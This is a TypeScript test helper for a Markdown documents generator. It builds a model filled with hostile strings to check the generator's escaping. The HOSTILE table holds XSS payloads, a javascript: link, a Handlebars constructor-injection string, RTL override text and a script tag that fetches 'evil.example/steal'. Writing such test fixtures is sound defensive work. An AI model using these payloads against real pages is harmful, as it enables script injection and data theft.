/**
 * Models for the documents tests: the example blueprints through the real loader, and a hostile
 * variant whose every user-facing string is replaced after loading (so the generator's own
 * defences are tested, not the loader's).
 */
import * as path from 'node:path';
import { generateDocuments } from '../../../generators/documents';
import { loadBlueprintFile, loadBlueprintText } from '../../../loader/index';
import type { Model } from '../../../model/model';

export const EXAMPLES = ['online-shop', 'dental-clinic', 'b2b-portal'] as const;
export type Example = (typeof EXAMPLES)[number];

/** A model from blueprint text written in a test; throws on any diagnostic of the loader. */
export function textModel(yaml: string, file = 'test.yaml'): Model {
  const result = loadBlueprintText(yaml, file);
  if (!result.ok) throw new Error(`${file} does not load: ${JSON.stringify(result.diagnostics.slice(0, 3))}`);
  return result.model;
}

/** One document's Markdown, by its path in the output folder ('' when it is not written). */
export function documentOf(model: Model, file: string, locale: 'en' | 'ru'): string {
  return generateDocuments(model, { locale }).find((d) => d.path === file)?.content ?? '';
}

export function exampleModel(name: Example): Model {
  const result = loadBlueprintFile(path.join(__dirname, '..', '..', '..', 'blueprints', `${name}.yaml`));
  if (!result.ok) throw new Error(`${name}.yaml does not load: ${JSON.stringify(result.diagnostics.slice(0, 3))}`);
  return result.model;
}

/** Text meant to break out of Markdown, HTML or a template. */
export const HOSTILE = {
  html: '<img src=x onerror=alert(1)><b>bold</b>',
  script: '<script>fetch("https://evil.example/steal")</script>',
  markdown: '# Heading\n\n- [link](javascript:alert(1)) | cell | ![img](https://evil.example/x.png) **strong** `code` ~~gone~~ $x^2$',
  handlebars: '{{constructor.constructor "alert(1)"}} {{> header}} {{{raw}}}',
  long: 'Very'.repeat(120) + 'LongNameWithoutAnySpaces',
  rtl: 'שירות לקוחות \u202Eevil\u202C עברית',
  emoji: 'Касса 💳🧾 works ✅',
  entity: '&lt;script&gt; &amp; &#60;b&#62;',
  autolink: 'see https://evil.example/x and www.evil.example or mail bob@evil.example',
  list: '1. not a list\n2. really',
} as const;

/** The online shop with hostile text in names, steps, messages, symptoms and notes. */
export function hostileModel(): Model {
  const m = exampleModel('online-shop');
  const values = Object.values(HOSTILE);
  let i = 0;
  const next = (): string => values[i++ % values.length]!;
  m.business.name = `${HOSTILE.script} ${HOSTILE.emoji}`;
  for (const p of m.people) p.name = next();
  for (const s of m.services) {
    s.name = next();
    s.vendor = next();
    s.notes = next();
  }
  for (const p of m.processes) {
    p.name = next();
    p.symptoms = [next(), next()];
    if (p.planB) {
      p.planB.summary = next();
      p.planB.steps = values.slice();
    }
  }
  for (const msg of m.messages) {
    msg.text = next();
    msg.situation = next();
  }
  for (const d of m.data) d.name = next();
  return m;
}
